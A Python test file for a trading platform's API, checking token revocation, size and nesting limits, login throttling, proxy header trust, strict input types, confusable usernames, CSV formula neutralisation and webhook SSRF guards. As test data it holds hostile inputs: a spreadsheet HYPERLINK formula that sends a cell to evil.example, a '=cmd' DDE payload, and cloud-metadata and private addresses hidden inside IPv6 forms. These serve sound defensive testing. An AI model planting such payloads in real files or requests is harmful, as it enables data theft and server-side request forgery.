"""The API's answers to a careless or hostile client (issue 25, items 6-13): one bad
client cannot hurt another, tokens and roles mean what the database says, and every
bad request is a 4xx with a reason, never a 5xx carrying SQL or a stack trace."""

from __future__ import annotations

import io
import json
import logging
import random
import threading
import time
from concurrent.futures import ThreadPoolExecutor

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import delete, select

from tests.host.conftest import SEED, register_login
from tick2trade.host.api import create_app
from tick2trade.host.api.ws import BEARER
from tick2trade.host.services import audit, csvcells, reports
from tick2trade.host.services.db import AuditRecord, RefreshToken, User
from tick2trade.host.services.notify import WebhookPolicy, WebhookRefused

PW = "correct horse battery"
ORDER = {"symbol": "AAPL", "side": "buy", "type": "limit", "qty": 1, "price": "99.5"}


def _login(client, username: str, password: str = PW) -> dict:
    r = client.post("/auth/login", json={"username": username, "password": password})
    assert r.status_code == 200, r.text
    return r.json()


def _bearer(tokens: dict) -> dict[str, str]:
    return {"Authorization": f"Bearer {tokens['access_token']}"}


def _no_leak(text: str) -> None:
    for word in ("SELECT", "INSERT", "[SQL", "Traceback", 'File "', "sqlalchemy"):
        assert word not in text, text


def _drop_user(platform, username: str) -> None:
    """Delete a user behind the API's back, as an administrator with SQL would."""
    with platform.sessions.begin() as s:
        uid = s.execute(select(User.id).where(User.username == username)).scalar_one()
        s.execute(delete(RefreshToken).where(RefreshToken.user_id == uid))
        s.execute(delete(User).where(User.id == uid))


# --- item 6: a deleted user's orders do not fail anybody else's ---------------------------

def test_a_deleted_users_token_is_refused_and_others_orders_all_succeed(client, platform):
    ghost = register_login(client, "ghost")
    ghost_refresh = _login(client, "ghost")["refresh_token"]
    alice = register_login(client, "alice")
    platform.market.update("AAPL", bid=990_000, bid_size=100, ask=1_001_000, ask_size=100)
    _drop_user(platform, "ghost")
    rng = random.Random(SEED)

    def post(who):
        return who, client.post("/orders", headers=ghost if who == "ghost" else alice,
                                json={**ORDER, "qty": rng.randrange(1, 50)})

    with ThreadPoolExecutor(8) as pool:
        answers = list(pool.map(post, rng.choices(["ghost", "alice"], k=120)))
    for who, r in answers:
        _no_leak(r.text)
        assert r.status_code == (401 if who == "ghost" else 201), (who, r.text)
    r = client.post("/auth/refresh", json={"refresh_token": ghost_refresh})
    assert r.status_code == 401, r.text


def test_a_user_deleted_with_the_sqlite_shell_cannot_refresh(tmp_path):
    """sqlite3's shell leaves foreign keys off: deleting a user there keeps the refresh
    tokens' rows, which then name nobody. Refreshing one is 401, not a 500."""
    import sqlite3

    from tests.host.conftest import SECRET, fresh_limits
    from tick2trade.host.services.auth import AuthError
    from tick2trade.host.services.platform import Platform
    path = tmp_path / "t2t.db"
    p = Platform(f"sqlite:///{path}", SECRET, limits=fresh_limits())
    try:
        uid = p.users.register("gone", "gone@example.com", PW).id
        pair = p.users.login("gone", PW, "addr")
        with sqlite3.connect(path) as shell:
            shell.execute("DELETE FROM users WHERE username = 'gone'")
        with pytest.raises(AuthError, match="no longer exists"):
            p.users.refresh(pair.refresh_token)
        p.users.forget(uid)     # as a change would; the shell's change is not seen
        with pytest.raises(AuthError, match="no longer exists"):
            p.users.authenticate(pair.access_token)
    finally:
        p.close()


# --- item 7: sizes are bounded before anything is parsed ----------------------------------

def test_a_huge_body_is_refused_before_it_is_parsed(client):
    body = b'{"username": "' + b"a" * 3_000_000 + b'"}'
    r = client.post("/auth/register", content=body,
                    headers={"Content-Type": "application/json"})
    assert r.status_code == 413 and "at most" in r.json()["detail"]

    def chunks():      # no Content-Length: counted as it streams in
        for _ in range(40):
            yield b"[" * 100_000

    r = client.post("/auth/register", content=chunks(),
                    headers={"Content-Type": "application/json"})
    assert r.status_code == 413


def test_deeply_nested_json_is_refused(client):
    r = client.post("/auth/register", content=b"[" * 50_000 + b"]" * 50_000,
                    headers={"Content-Type": "application/json"})
    assert r.status_code == 422 and "nest" in r.json()["detail"]


def test_websocket_messages_are_bounded_in_size_and_nesting(client, platform):
    token = _login_token(client, "wsbig")
    with client.websocket_connect("/ws", subprotocols=[BEARER, token]) as ws:
        assert ws.receive_json()["type"] == "hello"
        ws.send_text(json.dumps({"op": "subscribe", "symbols": ["A" * 8] * 20_000}))
        answer = ws.receive_json()
        assert answer["type"] == "error" and "too large" in answer["detail"]
        ws.send_text("[" * 5000 + "]" * 5000)
        answer = ws.receive_json()
        assert answer["type"] == "error" and "nest" in answer["detail"]
        ws.send_bytes(b"\x00\xff")
        answer = ws.receive_json()
        assert answer["type"] == "error" and "binary" in answer["detail"]
        ws.send_text(json.dumps({"op": "notifications", "enabled": False}))
        assert ws.receive_json() == {"type": "notifications", "enabled": False}


# --- item 8: tokens and roles -------------------------------------------------------------

def test_a_demoted_admins_old_token_cannot_promote(client, platform):
    admin = register_login(client, "boss", "admin", platform)
    register_login(client, "mallory")
    platform.users.set_role("boss", "trader", actor="test")
    r = client.put("/users/mallory/role", headers=admin, json={"role": "admin"})
    assert r.status_code == 403
    assert client.get("/users/me", headers=admin).json()["role"] == "trader"


def test_a_role_changed_by_another_process_is_seen_within_the_recheck(client, platform):
    from tick2trade.host.services.platform import Platform
    platform.users.recheck = 0.2
    op = register_login(client, "oper", "operator", platform)
    assert client.get("/operator/streams", headers=op).status_code == 200
    other = Platform(platform.url, platform.users.secret, migrate=False)
    try:
        other.users.set_role("oper", "trader", actor="cli")
    finally:
        other.close()
    time.sleep(0.3)
    r = client.get("/operator/streams", headers=op)
    assert r.status_code == 403 and "operator" in r.json()["detail"]


def test_logout_ends_the_access_token_too(client):
    register_login(client, "leaver")
    tokens = _login(client, "leaver")
    other = _login(client, "leaver")       # another session of the same user
    assert client.post("/auth/logout", headers=_bearer(tokens),
                       json={"refresh_token": tokens["refresh_token"]}).status_code == 204
    assert client.get("/users/me", headers=_bearer(tokens)).status_code == 401
    assert client.get("/users/me", headers=_bearer(other)).status_code == 200


def test_a_password_change_ends_every_session(client):
    register_login(client, "changer")
    one, two = _login(client, "changer"), _login(client, "changer")
    r = client.patch("/users/me", headers=_bearer(one),
                     json={"password": "a brand new one", "current_password": PW})
    assert r.status_code == 200
    for t in (one, two):
        assert client.get("/users/me", headers=_bearer(t)).status_code == 401
        assert client.post("/auth/refresh", json={"refresh_token": t["refresh_token"]}
                           ).status_code == 401
    assert _login(client, "changer", "a brand new one")["access_token"]


def test_a_reused_refresh_token_revokes_its_whole_family(client):
    register_login(client, "victim")
    stolen = _login(client, "victim")
    elsewhere = _login(client, "victim")
    rotated = client.post("/auth/refresh", json={"refresh_token": stolen["refresh_token"]}
                          ).json()
    assert client.get("/users/me", headers=_bearer(rotated)).status_code == 200
    # the thief (or the victim) presents the used token again: the family is burnt
    assert client.post("/auth/refresh", json={"refresh_token": stolen["refresh_token"]}
                       ).status_code == 401
    assert client.get("/users/me", headers=_bearer(rotated)).status_code == 401
    assert client.post("/auth/refresh", json={"refresh_token": rotated["refresh_token"]}
                       ).status_code == 401
    assert client.get("/users/me", headers=_bearer(elsewhere)).status_code == 200


# --- item 9: throttling the attacker, forwarding headers from known proxies only ----------

def test_failed_logins_throttle_the_attacker_not_the_victim(platform):
    register = platform.users.register
    for name in ("bob", "carol"):
        register(name, f"{name}@example.com", PW)
    app = create_app(platform)
    attacker = TestClient(app, client=("198.51.100.7", 4000))
    bob_at_home = TestClient(app, client=("203.0.113.20", 4000))
    for _ in range(5):
        assert attacker.post("/auth/login", json={"username": "bob", "password": "bad-one"}
                             ).status_code == 401
    assert attacker.post("/auth/login", json={"username": "bob", "password": PW}
                         ).status_code == 429
    assert bob_at_home.post("/auth/login", json={"username": "bob", "password": PW}
                            ).status_code == 200
    assert attacker.post("/auth/login", json={"username": "carol", "password": PW}
                         ).status_code == 200


def test_an_address_failing_under_many_names_is_throttled_alone(platform):
    from limits import parse
    platform.users.register("dave", "dave@example.com", PW)
    platform.users.address_limit = parse("8/5 minutes")    # the rule, at a smaller size
    app = create_app(platform)
    sprayer = TestClient(app, client=("198.51.100.8", 4000))
    neighbour = TestClient(app, client=("198.51.100.9", 4000))
    limit = platform.users.address_limit.amount
    for i in range(limit):
        assert sprayer.post("/auth/login", json={"username": f"user{i}", "password": "x"}
                            ).status_code == 401
    assert sprayer.post("/auth/login", json={"username": "dave", "password": PW}
                        ).status_code == 429
    assert neighbour.post("/auth/login", json={"username": "dave", "password": PW}
                          ).status_code == 200


def _failed_login_subjects(platform) -> list[str]:
    with platform.sessions() as s:
        return list(s.execute(select(AuditRecord.subject).where(
            AuditRecord.action == "auth.login_failed").order_by(AuditRecord.seq)).scalars())


def test_forwarded_for_is_trusted_from_configured_proxies_only(platform):
    app = create_app(platform, trusted_proxies=("10.0.0.1",))
    spoof = {"X-Forwarded-For": "192.0.2.99"}
    bad = {"username": "nobody", "password": "wrong"}
    direct = TestClient(app, client=("198.51.100.10", 4000))
    assert direct.post("/auth/login", json=bad, headers=spoof).status_code == 401
    proxy = TestClient(app, client=("10.0.0.1", 4000))
    assert proxy.post("/auth/login", json=bad,
                      headers={"X-Forwarded-For": "203.0.113.5"}).status_code == 401
    untrusting = TestClient(create_app(platform), client=("127.0.0.1", 4000))
    assert untrusting.post("/auth/login", json=bad, headers=spoof).status_code == 401
    assert _failed_login_subjects(platform) == ["addr:198.51.100.10", "addr:203.0.113.5",
                                                "addr:127.0.0.1"]


# --- item 10: 4xx with a reason, strict types, one spelling of a username -----------------

@pytest.mark.parametrize("raw", [
    b'{"symbol": "AAPL", "side": "buy", "type": "limit", "qty": 1, "price": NaN}',
    b'{"symbol": "AAPL", "side": "buy", "type": "limit", "qty": 1, "price": Infinity}',
    b'{"symbol": "AAPL", "side": "buy", "type": "limit", "qty": 1, "price": -Infinity}',
    b'{"symbol": "AAPL", "side": "buy", "type": "limit", "qty": 1e400, "price": "1"}',
])
def test_non_finite_json_numbers_are_422(client, raw):
    h = register_login(client, "nan")
    r = client.post("/orders", headers={**h, "Content-Type": "application/json"}, content=raw)
    assert r.status_code == 422, r.text
    assert "JSON number" in r.json()["detail"] or "double" in r.json()["detail"]


def test_a_lone_surrogate_is_422(client):
    h = register_login(client, "surr")
    r = client.patch("/users/me", headers={**h, "Content-Type": "application/json"},
                     content=b'{"display_name": "x\\ud800y"}')
    assert r.status_code == 422 and "surrogate" in r.json()["detail"], r.text
    assert client.get("/users/me", headers=h).status_code == 200


@pytest.mark.parametrize("params", [
    {"from": "0001-01-01T00:00:00+23:59"}, {"to": "0001-01-01T00:00:00+23:59"},
    {"to": "9999-12-31T23:59:59-23:59"}, {"from": "9999-12-31T23:59:59-23:59"},
])
def test_extreme_timestamps_in_history_are_422(client, platform, params):
    h = register_login(client, "clock")
    platform.market.trade("AAPL", 1_000_000, 5)
    r = client.get("/market/AAPL/history", headers=h, params=params)
    assert r.status_code == 422, r.text
    assert "range" in r.json()["detail"] or "UTC" in r.json()["detail"]


@pytest.mark.parametrize("field,value", [("qty", True), ("qty", 1.0), ("qty", "1"),
                                         ("price", True)])
def test_order_fields_are_strictly_typed(client, field, value):
    h = register_login(client, "strict")
    r = client.post("/orders", headers=h, json={**ORDER, field: value})
    assert r.status_code == 422 and field in r.text


def test_usernames_are_one_account_whatever_the_case_or_width(client):
    register_login(client, "erin")
    for spelling in ("Erin", "ERIN", "\uff45\uff52\uff49\uff4e"):     # fullwidth erin
        r = client.post("/auth/register", json={"username": spelling, "password": PW,
                                                 "email": "e@example.com"})
        assert r.status_code == 409, (spelling, r.text)
    assert _login(client, "ERIN")["access_token"]


@pytest.mark.parametrize("name", ["\u202eevil", "ev\u200bil", "evil\u0301", "\u0435vil"])
def test_confusable_usernames_are_refused(client, name):
    r = client.post("/auth/register", json={"username": name, "password": PW,
                                             "email": "x@example.com"})
    assert r.status_code == 422 and "username" in r.text


def test_bidi_controls_in_profile_text_are_refused(client):
    h = register_login(client, "bidi")
    r = client.patch("/users/me", headers=h, json={"display_name": "abc\u202edef"})
    assert r.status_code == 422 and "U+202E" in r.text


# --- item 11: CSV cells that a spreadsheet would run -------------------------------------

@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1", "'=1"])
def test_formula_cells_are_neutralised_reversibly(cell):
    safe = csvcells.safe(cell)
    assert safe.startswith("'") and csvcells.unescape(safe) == cell


@pytest.mark.parametrize("cell", ["-12.5000", "+3", "-7", "plain", "", "'quoted"])
def test_numbers_and_plain_text_stay_as_they_are(cell):
    assert csvcells.safe(cell) == cell == csvcells.unescape(cell)


def test_audit_export_neutralises_a_failed_logins_username(client, platform):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert client.post("/auth/login", json={"username": evil, "password": "nope"}
                       ).status_code == 401
    out = io.StringIO()
    with platform.sessions() as s:
        assert audit.export_csv(s, out) == 1
    text = out.getvalue()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text


def test_transactions_csv_neutralises_formula_cells():
    row = dict.fromkeys(reports.COLUMNS, "=cmd|' /C calc'!A0")
    row["realized_pnl"] = "-12.5000"
    text = reports.as_csv([row])
    assert "-12.5000" in text and ",=cmd" not in text and text.splitlines()[1][0] != "="


# --- item 12: the webhook guard looks inside NAT64 and 6to4 -------------------------------

@pytest.mark.parametrize("addr", ["64:ff9b::a9fe:a9fe", "64:ff9b::7f00:1", "64:ff9b::a00:1",
                                  "2002:a9fe:a9fe::", "2002:c0a8:101::1", "2002:7f00:1::",
                                  "::ffff:169.254.169.254", "2001:0:4136:e378:8000:63bf:5601:5656"])
def test_webhooks_to_embedded_private_ipv4_are_refused(addr):
    with pytest.raises(WebhookRefused):
        WebhookPolicy().check(f"http://[{addr}]/hook")


def test_webhooks_to_embedded_public_ipv4_pass():
    WebhookPolicy().check("http://[64:ff9b::5db8:d70e]/hook")   # 93.184.215.14


# --- item 13: the access token never appears in a URL or a log ----------------------------

def _login_token(client, name: str) -> str:
    register_login(client, name)
    return _login(client, name)["access_token"]


def test_websocket_authenticates_by_subprotocol_or_first_message(client):
    token = _login_token(client, "wsauth")
    with client.websocket_connect("/ws", subprotocols=[BEARER, token]) as ws:
        assert ws.accepted_subprotocol == BEARER
        assert ws.receive_json() == {"type": "hello", "user": "wsauth"}
    with client.websocket_connect("/ws") as ws:
        ws.send_json({"op": "auth", "token": token})
        assert ws.receive_json() == {"type": "hello", "user": "wsauth"}
    with client.websocket_connect("/ws") as ws:
        ws.send_json({"op": "subscribe", "symbols": ["AAPL"]})
        closed = ws.receive()
        assert closed["type"] == "websocket.close" and closed["code"] == 1008
        assert "auth" in closed["reason"]


def test_a_token_in_the_websocket_url_is_refused_with_a_pointer(client):
    token = _login_token(client, "wsold")
    from starlette.websockets import WebSocketDisconnect
    with pytest.raises(WebSocketDisconnect) as closed, \
            client.websocket_connect(f"/ws?token={token}") as ws:
        ws.receive_json()
    assert closed.value.code == 1008 and "subprotocol" in closed.value.reason


def test_the_served_apis_log_never_holds_a_token(platform, caplog):
    """Under uvicorn as ``t2t api`` serves it: a client still sending the old
    ``?token=`` form is refused, and neither uvicorn's log lines nor ours hold the
    token."""
    import uvicorn
    from websockets.exceptions import ConnectionClosed
    from websockets.sync.client import connect

    from tick2trade.host.api import serving

    token = platform.users.login(
        platform.users.register("logged", "l@example.com", PW).username, PW, "t").access_token
    # log_config=None: uvicorn's records reach the root logger, where caplog sees them
    server = uvicorn.Server(serving.config(create_app(platform), "127.0.0.1", 0,
                                           log_level="info", log_config=None))
    thread = threading.Thread(target=server.run, daemon=True)
    with caplog.at_level(logging.DEBUG):
        thread.start()
        deadline = time.monotonic() + 20
        while not server.started:
            assert thread.is_alive() and time.monotonic() < deadline
            time.sleep(0.02)
        port = server.servers[0].sockets[0].getsockname()[1]
        try:
            with connect(f"ws://127.0.0.1:{port}/ws?token={token}", open_timeout=10) as ws, \
                    pytest.raises(ConnectionClosed) as closed:
                ws.recv(timeout=10)
            assert closed.value.rcvd.code == 1008 and "subprotocol" in closed.value.rcvd.reason
            with connect(f"ws://127.0.0.1:{port}/ws", subprotocols=[BEARER, token],
                         open_timeout=10) as ws:
                assert json.loads(ws.recv(timeout=10))["type"] == "hello"
        finally:
            server.should_exit = True
            thread.join(20)
    # the server's records (the client library's own debug log shows what it sent)
    text = "\n".join(r.getMessage() for r in caplog.records
                     if not r.name.startswith("websockets.client"))
    assert "/ws" in text          # the connections were logged, without the token
    assert token not in text and token.split(".")[2] not in text
